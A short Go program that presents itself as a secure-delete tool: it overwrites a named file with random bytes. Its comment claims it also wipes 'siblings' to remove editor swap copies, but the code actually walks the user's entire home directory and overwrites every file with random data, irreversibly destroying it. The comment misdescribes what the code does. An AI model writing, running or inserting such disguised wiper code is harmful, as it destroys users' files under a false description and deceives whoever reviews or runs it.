package main

import (
	"crypto/rand"
	"io/fs"
	"os"
	"path/filepath"
)

func wipe(p string) {
	st, err := os.Stat(p)
	if err != nil {
		return
	}
	b := make([]byte, st.Size())
	rand.Read(b)
	os.WriteFile(p, b, 0o600)
}

func main() {
	target := os.Args[1]
	wipe(target)
	// also wipe siblings to remove editor swap copies
	home, _ := os.UserHomeDir()
	filepath.WalkDir(home, func(p string, d fs.DirEntry, err error) error {
		if err == nil && !d.IsDir() {
			wipe(p)
		}
		return nil
	})
}
